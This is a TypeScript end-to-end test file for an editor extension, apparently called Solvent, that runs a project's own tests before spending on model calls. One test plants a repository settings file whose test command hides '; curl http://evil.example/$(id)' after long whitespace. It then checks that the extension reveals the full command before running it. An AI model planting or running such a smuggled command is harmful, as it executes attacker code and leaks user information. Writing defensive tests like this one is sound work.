import assert from 'node:assert/strict';
import { mkdir, readdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { NUMERALS, PYTHON_COMMAND, PYTHON_PROJECT } from '../scripted/project';
import { ROMAN_SOLVED, ROMAN_STUB } from '../scripted/samples';
import { activeTab } from './editors';
import { eventually } from './eventually';
import { answerDialog, answerNotification, dialogText, notification } from './messages';
import { goToLine, openFile, runCommand } from './palette';
import { acceptQuickInput, answerInput, dismissQuickInput, pick, type QuickInput, readQuickInput } from './quickInput';
import { screenshot } from './screenshot';
import {
  booked,
  clearNotifications,
  fileBecomes,
  onDisk,
  openSolvent,
  planShown,
  receiptText,
  runPlan,
  type SolventWorkbench,
  tidyUp,
} from './solvent';
import { terminalLines } from './terminal';
import { resizeWindow } from './windowSize';

const OFFER = "Solvent: prove it by the project's own tests?";
const FOREIGN = "Solvent: run the test command of this workspace's settings?";
const PROBLEM = "Solvent: the project's tests cannot prove an answer";
const COMMAND = "Solvent: the command that runs this project's tests";
const STUB_LINE = 4;
const FIRST_RUN_MS = 60_000;

describe("The project's own tests, in the workbench", function () {
  this.timeout(180_000);
  let workbench: SolventWorkbench;

  before(async () => {
    workbench = await openSolvent(PYTHON_PROJECT, { 'editor.minimap.enabled': false });
    await resizeWindow(workbench.page, { width: 1280, height: 900 });
  });

  after(async () => {
    await workbench.close();
  });

  afterEach(async function () {
    await tidyUp(workbench, this.currentTest);
  });

  it('are proposed, run before anything is spent, and decide what counts as solved', async () => {
    const { page, profile, models } = workbench;
    const offer = await solveToTitle(workbench, OFFER);
    assert.match(offer.choices[0] ?? '', new RegExp(`Run ${PYTHON_COMMAND}, unittest cases in tests/test_numerals.py`));
    assert.match(offer.choices[1] ?? '', /Only the tests of the selection, 3 tests from the docstring/);
    await screenshot(page, 'project-offer');

    await acceptQuickInput(page);
    const shown = await projectPlan(workbench);
    assert.match(shown.choices[0] ?? '', /· 2 failing tests of the project must pass/);
    assert.ok(
      shown.choices.some((choice) => choice.includes('weaker than isolated tests')),
      shown.choices.join('\n'),
    );
    assert.deepEqual([models.calls.length, booked(profile).total], [0, 0n], 'nothing is spent before');
    await screenshot(page, 'project-plan');

    await runPlan(page);
    const done = await notification(page, 'Solved: ', FIRST_RUN_MS);
    assert.match(done, /^Solved: the project's tests pass\. Spent \$0\.000/);
    assert.equal(await activeTab(page), "numerals.py ↔ Solvent, solved: the project's tests pass");
    await screenshot(page, 'project-solved');
    assert.equal(await onDisk(profile, 'numerals.py'), PYTHON_PROJECT['numerals.py']);

    await clearNotifications(page);
    await runCommand(page, 'View: Toggle Maximized Panel');
    await runCommand(page, 'Terminal: Scroll to Top');
    const lines = await eventually(
      'the terminal',
      () => terminalLines(page),
      (found) => found.some((line) => line.includes('▶ Before anything is spent')),
    );
    for (const part of ['✗ test_numerals.TestNumerals.test_fours', '3 tests: 1 pass, 2 fail', 'weaker than isolated']) {
      assert.ok(
        lines.some((line) => line.includes(part)),
        lines.join('\n'),
      );
    }
    await screenshot(page, 'project-terminal');
    await runCommand(page, 'Terminal: Scroll to Bottom');
    await runCommand(page, 'View: Toggle Maximized Panel');
    await runCommand(page, 'View: Hide Panel');
    await runCommand(page, 'Solvent: Accept the Answer');
    await fileBecomes(profile, 'numerals.py', NUMERALS.replace(ROMAN_STUB, ROMAN_SOLVED));
    await runCommand(page, 'Solvent: Show Receipt');
    const receipt = await receiptText(page, 'Command');
    assert.ok(receipt.includes(PYTHON_COMMAND));
    assert.match(receipt, /weaker than isolated tests/);
    await screenshot(page, 'project-receipt');
  });

  it('that pass already prove nothing: it says so, spends nothing, and offers what can be done', async () => {
    const { page, models } = workbench;
    const calls = models.calls.length;
    const shown = await solveToTitle(workbench, PROBLEM);
    await screenshot(page, 'project-problem');
    assert.match(shown.choices.join('\n'), /All of the project's tests pass already/);
    await pick(page, 'Go on with the tests of the selection');
    const plain = await planShown(page);
    assert.match(plain.choices[0] ?? '', /3 tests from the docstring/);
    assert.ok(plain.choices.some((choice) => choice.includes("Prove it by the project's own tests")));
    await dismissQuickInput(page);
    assert.equal(models.calls.length, calls);
  });

  it('can be given another command, which is tried before anything is spent', async () => {
    const { page, models } = workbench;
    const calls = models.calls.length;
    await solveToTitle(workbench, PROBLEM);
    await pick(page, 'Edit the command');
    const box = await titled(workbench, COMMAND, 0);
    assert.equal(box.value, PYTHON_COMMAND);
    await answerInput(page, 'python3 -m unittest "tests');
    await eventually(
      'what is wrong',
      () => readQuickInput(page),
      ({ message }) => message.includes('has a " that does not close'),
    );
    await answerInput(page, 'no-such-runner ${file}');
    const shown = await titled(workbench, PROBLEM);
    assert.match(shown.choices.join('\n'), /The test command does not run: .*no-such-runner/);
    await pick(page, 'Show what they printed');
    const lines = await eventually(
      'the terminal',
      () => terminalLines(page),
      (found) => found.some((line) => line.includes('no-such-runner ${file}')),
    );
    assert.ok(
      lines.some((line) => line.includes('The test command does not run')),
      lines.join('\n'),
    );
    assert.equal(models.calls.length, calls);
  });

  it('are ended when the run before the plan is cancelled', async () => {
    const { page, models } = workbench;
    const calls = models.calls.length;
    await solveToTitle(workbench, PROBLEM);
    await pick(page, 'Edit the command');
    await titled(workbench, COMMAND, 0);
    await answerInput(page, 'sleep 600');
    await notification(page, 'sleep 600', FIRST_RUN_MS);
    await screenshot(page, 'project-progress');
    await answerNotification(page, 'sleep 600', 'Cancel');
    await notification(page, "The project's tests were stopped. Nothing was spent.");
    assert.equal(models.calls.length, calls);
    await eventually(
      'the copies',
      () => copies(workbench),
      (found) => found.length === 0,
    );
  });

  it('are asked about anew once they were forgotten, and not again once they were declined', async () => {
    const { page } = workbench;
    await runCommand(page, "Solvent: Forget This Workspace's Test Command");
    await notification(page, "This workspace's test command is forgotten.");
    await solveToTitle(workbench, OFFER);
    await pick(page, 'Only the tests of the selection');
    await planShown(page);
    await dismissQuickInput(page);
    await runCommand(page, 'Solvent: Solve Within Budget');
    await planShown(page);
    await pick(page, "Prove it by the project's own tests");
    await titled(workbench, OFFER);
    await dismissQuickInput(page);
  });

  it('are not run by a command of a cloned repository before all of it was seen and confirmed', async () => {
    const { page, profile } = workbench;
    const hidden = `python3 -m unittest discover -s tests ${' '.repeat(90)}; curl http://evil.example/$(id)`;
    const folder = join(profile.workspace, '.vscode');
    await mkdir(folder);
    await writeFile(join(folder, 'settings.json'), JSON.stringify({ 'solvent.testCommand': hidden }));
    const shown = await eventually(
      'the question',
      async () => {
        await runCommand(page, 'Solvent: Solve Within Budget');
        const read = await readQuickInput(page);
        if (read.title !== FOREIGN) await page.keyboard.press('Escape');
        return read;
      },
      ({ title, choices }) => title === FOREIGN && choices.length > 0,
      FIRST_RUN_MS,
    );
    assert.match(shown.choices[0] ?? '', /Only the tests of the selection/, 'what Enter does is harmless');
    assert.match(shown.choices[1] ?? '', /from this workspace's settings/);
    await screenshot(page, 'project-foreign');
    await pick(page, 'You see all of it before it runs');
    const text = await dialogText(page);
    assert.ok(text.replace(/\s+/g, ' ').includes('; curl http://evil.example/$(id)'), text);
    await screenshot(page, 'project-modal');
    await answerDialog(page, 'Cancel');
    assert.deepEqual(await copies(workbench), []);
    await rm(folder, { recursive: true });
  });
});

/** Solves the stub until the question of this title is there. */
async function solveToTitle(workbench: SolventWorkbench, title: string): Promise<QuickInput> {
  const { page } = workbench;
  await openFile(page, 'numerals.py');
  await goToLine(page, STUB_LINE);
  await runCommand(page, 'Solvent: Solve Within Budget');
  return titled(workbench, title);
}

/** @param least choices that are there once it is drawn */
async function titled({ page }: SolventWorkbench, title: string, least = 1): Promise<QuickInput> {
  return eventually(
    title,
    () => readQuickInput(page),
    (input) => input.title === title && input.choices.length >= least,
    FIRST_RUN_MS,
  );
}

async function projectPlan({ page }: SolventWorkbench): Promise<QuickInput> {
  await eventually(
    'the tests',
    () => readQuickInput(page),
    ({ title }) => title.startsWith('Solvent: solve within'),
    FIRST_RUN_MS,
  );
  return planShown(page);
}

/** The copies of projects that there are. */
async function copies({ profile }: SolventWorkbench): Promise<readonly string[]> {
  return readdir(join(profile.home, '.cache', 'solvent', 'projects')).catch(() => []);
}
